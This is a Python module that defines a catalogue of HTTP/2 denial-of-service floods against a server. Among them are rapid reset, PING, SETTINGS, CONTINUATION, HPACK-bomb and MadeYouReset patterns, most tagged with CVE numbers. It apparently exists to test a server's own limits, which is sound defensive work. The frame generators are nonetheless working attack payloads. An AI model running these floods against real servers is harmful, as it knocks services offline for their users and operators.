"""The floods that are known, and those that follow from how our limits work."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import count

from flood import flood
from wire import ACK, END_HEADERS, END_STREAM, PADDED, Code, Connection, Kind, Setting, frame, settings

WHOLE = END_STREAM | END_HEADERS
LARGEST_WINDOW = 0x7FFF_FFFF


def _again(data: bytes) -> Iterator[bytes]:
    while True:
        yield data


def _streams() -> Iterator[int]:
    return count(1, 2)


def _rst(stream: int, code: int = Code.CANCEL) -> bytes:
    return frame(Kind.RST_STREAM, 0, stream, code.to_bytes(4, "big"))


def _update(stream: int, increment: int) -> bytes:
    return frame(Kind.WINDOW_UPDATE, 0, stream, increment.to_bytes(4, "big"))


def _block(c: Connection, more: list[tuple[str, str]] | None = None, method: str = "GET") -> bytes:
    """A header that remembers nothing, so that it can be sent again."""
    return b"".join(_literal(name) + _literal(value, b"") for name, value in c.fields(method, more=more))


def _literal(text: str, start: bytes = b"\0") -> bytes:
    return start + bytes((len(text),)) + text.encode()


@flood("requests that are reset at once", "CVE-2023-44487")
def _(c: Connection) -> Iterator[bytes]:
    block = _block(c)
    for stream in _streams():
        yield frame(Kind.HEADERS, WHOLE, stream, block) + _rst(stream)


@flood("requests that are reset after a while", "CVE-2023-44487")
def _(c: Connection) -> Iterator[bytes]:
    block = _block(c)
    for stream in _streams():
        reset = _rst(stream - 100) if stream > 100 else b""
        yield frame(Kind.HEADERS, END_HEADERS, stream, block) + reset


@flood("PING", "CVE-2019-9512")
def _(c: Connection) -> Iterator[bytes]:
    yield from _again(frame(Kind.PING, payload=bytes(8)))


@flood("acknowledgements of PING")
def _(c: Connection) -> Iterator[bytes]:
    yield from _again(frame(Kind.PING, ACK, payload=bytes(8)))


@flood("SETTINGS", "CVE-2019-9515")
def _(c: Connection) -> Iterator[bytes]:
    yield from _again(frame(Kind.SETTINGS, payload=settings([(Setting.MAX_FRAME_SIZE, 20_000)])))


@flood("SETTINGS that change a hundred windows")
def _(c: Connection) -> Iterator[bytes]:
    block = _block(c, method="POST")
    for stream in range(1, 200, 2):
        c.frame(Kind.HEADERS, END_HEADERS, stream, block)
    for number in count():
        yield frame(Kind.SETTINGS, payload=settings([(Setting.INITIAL_WINDOW_SIZE, number % 2)]))


@flood("empty DATA", "CVE-2019-9518")
def _(c: Connection) -> Iterator[bytes]:
    c.post()
    yield from _again(frame(Kind.DATA, 0, 1))


@flood("DATA that is nothing but padding", "CVE-2019-9518")
def _(c: Connection) -> Iterator[bytes]:
    c.post()
    yield from _again(frame(Kind.DATA, PADDED, 1, b"\0"))


@flood("PRIORITY", "CVE-2019-9513")
def _(c: Connection) -> Iterator[bytes]:
    for stream in _streams():
        yield frame(Kind.PRIORITY, 0, stream % 1_000, b"\0\0\0\0\x0f")


@flood("WINDOW_UPDATE of the connection by one byte")
def _(c: Connection) -> Iterator[bytes]:
    yield from _again(_update(0, 1))


@flood("WINDOW_UPDATE of a stream by one byte")
def _(c: Connection) -> Iterator[bytes]:
    c.post()
    yield from _again(_update(1, 1))


@flood("answers by the byte", "CVE-2019-9511")
def _(c: Connection) -> Iterator[bytes]:
    c.frame(Kind.SETTINGS, payload=settings([(Setting.INITIAL_WINDOW_SIZE, 0)]))
    c.headers(1, c.fields(path="/openapi.json"))
    yield from _again(_update(1, 1))


@flood("frames of an unknown kind")
def _(c: Connection) -> Iterator[bytes]:
    yield from _again(frame(0x16, 0, 0, bytes(8)))


@flood("GOAWAY")
def _(c: Connection) -> Iterator[bytes]:
    yield from _again(frame(Kind.GOAWAY, payload=bytes(8)))


@flood("RST_STREAM of one stream")
def _(c: Connection) -> Iterator[bytes]:
    c.post()
    yield from _again(_rst(1))


@flood("CONTINUATION", "CVE-2024-27316")
def _(c: Connection) -> Iterator[bytes]:
    c.headers(flags=END_STREAM)
    for number in count():
        yield frame(Kind.CONTINUATION, 0, 1, b"\x00\x08x%07d\x01a" % number)


@flood("CONTINUATION of the largest size", "CVE-2024-27316")
def _(c: Connection) -> Iterator[bytes]:
    c.headers(flags=END_STREAM)
    yield from _again(frame(Kind.CONTINUATION, 0, 1, b"\x00\x02xx\x01a" * 2_730))


@flood("empty CONTINUATION", "CVE-2024-28182")
def _(c: Connection) -> Iterator[bytes]:
    c.frame(Kind.HEADERS, END_STREAM, 1)
    yield from _again(frame(Kind.CONTINUATION, 0, 1))


@flood("fields without name and value", "CVE-2019-9516")
def _(c: Connection) -> Iterator[bytes]:
    block = _block(c)
    for stream in _streams():
        yield frame(Kind.HEADERS, WHOLE, stream, block + b"\x00\x00\x00" * 1_000)


@flood("an HPACK bomb in each request", "CVE-2016-6581")
def _(c: Connection) -> Iterator[bytes]:
    c.frame(Kind.HEADERS, WHOLE, 1, _block(c) + b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4_000)
    block = _block(c) + b"\xbe" * 16_000
    for stream in count(3, 2):
        yield frame(Kind.HEADERS, WHOLE, stream, block)


@flood("requests with too many fields")
def _(c: Connection) -> Iterator[bytes]:
    block = _block(c, [(f"x-{number}", "a") for number in range(100)])
    for stream in _streams():
        yield frame(Kind.HEADERS, WHOLE, stream, block)


@flood("requests with a header that is too large")
def _(c: Connection) -> Iterator[bytes]:
    block = _block(c, [(f"x-{number}", "a" * 100) for number in range(140)])
    for stream in _streams():
        yield frame(Kind.HEADERS, WHOLE, stream, block)


@flood("requests beyond those that are allowed at once")
def _(c: Connection) -> Iterator[bytes]:
    block = _block(c, method="POST")
    for stream in _streams():
        yield frame(Kind.HEADERS, END_HEADERS, stream, block)


@flood("malformed requests", "CVE-2025-8671")
def _(c: Connection) -> Iterator[bytes]:
    block = _block(c, [("connection", "close")])
    for stream in _streams():
        yield frame(Kind.HEADERS, WHOLE, stream, block)


def _made_to_reset(name: str, *frames: tuple[int, int, bytes]) -> None:
    """Requests, each with frames that make the server reset it."""

    @flood(f"requests that the server resets: {name}", "CVE-2025-8671")
    def _(c: Connection) -> Iterator[bytes]:
        block = _block(c, [("content-length", "1"), ("content-type", "application/json")], "POST")
        for stream in _streams():
            more = b"".join(frame(kind, flags, stream, payload) for kind, flags, payload in frames)
            yield frame(Kind.HEADERS, END_HEADERS, stream, block) + more


_made_to_reset("a window that is too large", (Kind.WINDOW_UPDATE, 0, LARGEST_WINDOW.to_bytes(4, "big")))
_made_to_reset("a window that grows by nothing", (Kind.WINDOW_UPDATE, 0, bytes(4)))
_made_to_reset("more content than told", (Kind.DATA, 0, b"{}"))
_made_to_reset("less content than told", (Kind.DATA, END_STREAM, b""))
_made_to_reset("DATA after the end", (Kind.DATA, END_STREAM, b"1"), (Kind.DATA, END_STREAM, b"1"))
_made_to_reset("PRIORITY of a wrong length", (Kind.PRIORITY, 0, b"\0"))
